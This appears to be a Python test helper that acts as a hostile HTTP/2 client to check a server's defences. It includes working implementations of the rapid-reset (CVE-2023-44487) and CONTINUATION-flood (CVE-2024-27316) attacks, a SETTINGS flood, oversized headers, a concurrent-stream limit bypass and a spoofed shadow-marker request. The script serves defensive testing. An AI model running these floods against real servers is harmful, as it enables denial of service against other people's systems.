#!/usr/bin/env python3
"""HTTP/2 attacks on a cleartext (prior-knowledge) listener, with the Python `h2` library as the
attacking client (and `hyperframe` for frames `h2` refuses to send). Used by the end-to-end test
`hostile_h2`; prints one JSON object describing how the server answered.

    python3 h2_attacks.py HOST:PORT settings|rapid-reset|continuation|settings-flood|big-headers|streams

Every attack is bounded (frames, bytes, seconds): it stops at the first sign the server defended
itself (GOAWAY, reset, closed connection) or when its budget is spent.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

BUDGET_SECONDS = 20


def connect(addr):
    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=BUDGET_SECONDS)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(addr, path="/", extra=()):
    return [(":method", "GET"), (":scheme", "http"), (":authority", addr), (":path", path), *extra]


def read_events(sock, conn, until, seconds=BUDGET_SECONDS):
    """Reads frames until `until(events_so_far)` holds, the peer closes, or time runs out."""
    events = []
    deadline = time.monotonic() + seconds
    closed = False
    while time.monotonic() < deadline and not until(events):
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except OSError:
            closed = True
            break
        if not data:
            closed = True
            break
        try:
            events.extend(conn.receive_data(data))
        except Exception as error:  # a protocol error on our side of the parse: report it
            events.append(("client-parse-error", str(error)))
            break
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except OSError:
                closed = True
                break
    return events, closed


def goaway(events):
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            return {"error_code": getattr(event.error_code, "name", str(event.error_code)), "last_stream_id": event.last_stream_id}
    return None


def server_settings(addr):
    sock, conn = connect(addr)
    events, _ = read_events(sock, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 10)
    for event in events:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            return {str(code.name if hasattr(code, "name") else code): change.new_value for code, change in event.changed_settings.items()}
    return {}


def rapid_reset(addr, streams=2000):
    """CVE-2023-44487: open a stream and cancel it at once, over and over."""
    sock, conn = connect(addr)
    read_events(sock, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 5)
    sent = 0
    closed = False
    for stream_id in range(1, 2 * streams, 2):
        try:
            conn.send_headers(stream_id, request_headers(addr, f"/reset/{stream_id}"), end_stream=True)
            conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
        except Exception:
            break  # h2 refuses to go on (the server's GOAWAY was already processed)
        sent += 1
        if sent % 50 == 0:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                closed = True
                break
            events, closed = read_events(sock, conn, lambda ev: goaway(ev) is not None, 0.05)
            if goaway(events) or closed:
                return {"streams_sent": sent, "goaway": goaway(events), "closed": closed}
    events, closed2 = read_events(sock, conn, lambda ev: goaway(ev) is not None, 5)
    return {"streams_sent": sent, "goaway": goaway(events), "closed": closed or closed2}


def continuation_flood(addr, frames=4000):
    """HEADERS without END_HEADERS, then CONTINUATION frames of header bytes that never end
    (CVE-2024-27316 and kin): the server must stop buffering long before we stop sending."""
    sock, conn = connect(addr)
    read_events(sock, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 5)
    encoder = Encoder()
    block = encoder.encode(request_headers(addr))
    first = HeadersFrame(1)
    first.data = block
    first.flags.add("END_STREAM")
    sock.sendall(first.serialize())
    filler = encoder.encode([(f"x-flood-{i}", "v" * 200) for i in range(60)])[:16000]
    sent_bytes = 0
    closed = False
    for i in range(frames):
        frame = ContinuationFrame(1)
        frame.data = filler
        try:
            sock.sendall(frame.serialize())
        except OSError:
            closed = True
            break
        sent_bytes += len(filler)
    events, closed2 = read_events(sock, conn, lambda ev: goaway(ev) is not None, 5)
    resets = [getattr(e.error_code, "name", str(e.error_code)) for e in events if isinstance(e, h2.events.StreamReset)]
    responses = [dict(e.headers).get(":status") for e in events if isinstance(e, h2.events.ResponseReceived)]
    return {"header_bytes_sent": sent_bytes, "closed": closed or closed2, "goaway": goaway(events), "resets": resets, "responses": responses}


def settings_flood(addr, frames=1_000_000):
    """SETTINGS frames as fast as possible, never reading the server's acknowledgements."""
    sock, conn = connect(addr)
    frame = SettingsFrame(0, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    batch = frame * 1000
    sent = 0
    closed = False
    sock.settimeout(5)
    started = time.monotonic()
    while sent < frames and time.monotonic() - started < BUDGET_SECONDS:
        try:
            sock.sendall(batch)
        except (socket.timeout, TimeoutError):
            break  # the server stopped reading: it is not buffering acknowledgements without end
        except OSError:
            closed = True
            break
        sent += 1000
    blocked = sent < frames and not closed
    events, closed2 = read_events(sock, conn, lambda ev: goaway(ev) is not None, 5)
    return {"frames_sent": sent, "blocked_by_backpressure": blocked, "closed": closed or closed2, "goaway": goaway(events)}


def big_headers(addr):
    """One request whose header list is larger than the server allows."""
    sock, conn = connect(addr)
    conn.send_headers(1, request_headers(addr, "/big", [("x-big", "a" * 70_000)]), end_stream=True)
    sock.sendall(conn.data_to_send())
    events, closed = read_events(sock, conn, lambda ev: any(isinstance(e, (h2.events.ResponseReceived, h2.events.StreamReset, h2.events.ConnectionTerminated)) for e in ev), 10)
    responses = [dict(e.headers).get(":status") for e in events if isinstance(e, h2.events.ResponseReceived)]
    resets = [getattr(e.error_code, "name", str(e.error_code)) for e in events if isinstance(e, h2.events.StreamReset)]
    return {"responses": responses, "resets": resets, "goaway": goaway(events), "closed": closed}


def streams(addr, count=150):
    """More streams at once than the server allows, each left open (no END_STREAM)."""
    sock, conn = connect(addr)
    read_events(sock, conn, lambda ev: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in ev), 5)
    # Ignore the advertised limit, as an attacker would.
    conn.remote_settings = h2.settings.Settings(client=False, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2**31 - 1})
    opened = 0
    for stream_id in range(1, 2 * count, 2):
        conn.send_headers(stream_id, request_headers(addr, f"/open/{stream_id}") + [("content-length", "1")], end_stream=False)
        opened += 1
    sock.sendall(conn.data_to_send())
    events, closed = read_events(sock, conn, lambda ev: sum(isinstance(e, h2.events.StreamReset) for e in ev) >= count - 100, 10)
    refused = [e.stream_id for e in events if isinstance(e, h2.events.StreamReset) and e.error_code == h2.errors.ErrorCodes.REFUSED_STREAM]
    return {"opened": opened, "refused": len(refused), "goaway": goaway(events), "closed": closed}


def spoofed_marker(addr):
    """A request that claims to be a copy: a made-up x-shadow marker and a -shadow :authority."""
    sock, conn = connect(addr)
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", "shop-shadow:8080"), (":path", "/orders"), ("x-shadow", "hide-me")]
    conn.send_headers(1, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    events, closed = read_events(sock, conn, lambda ev: any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) for e in ev), 10)
    status = next((dict(e.headers).get(":status") for e in events if isinstance(e, h2.events.ResponseReceived)), None)
    body = b"".join(e.data for e in events if isinstance(e, h2.events.DataReceived)).decode(errors="replace")
    return {"status": status, "body": body, "closed": closed}


ATTACKS = {
    "spoofed-marker": spoofed_marker,
    "settings": server_settings,
    "rapid-reset": rapid_reset,
    "continuation": continuation_flood,
    "settings-flood": settings_flood,
    "big-headers": big_headers,
    "streams": streams,
}

if __name__ == "__main__":
    import h2.errors  # noqa: F401  (used above through the h2 package)

    target, attack = sys.argv[1], sys.argv[2]
    print(json.dumps(ATTACKS[attack](target)))
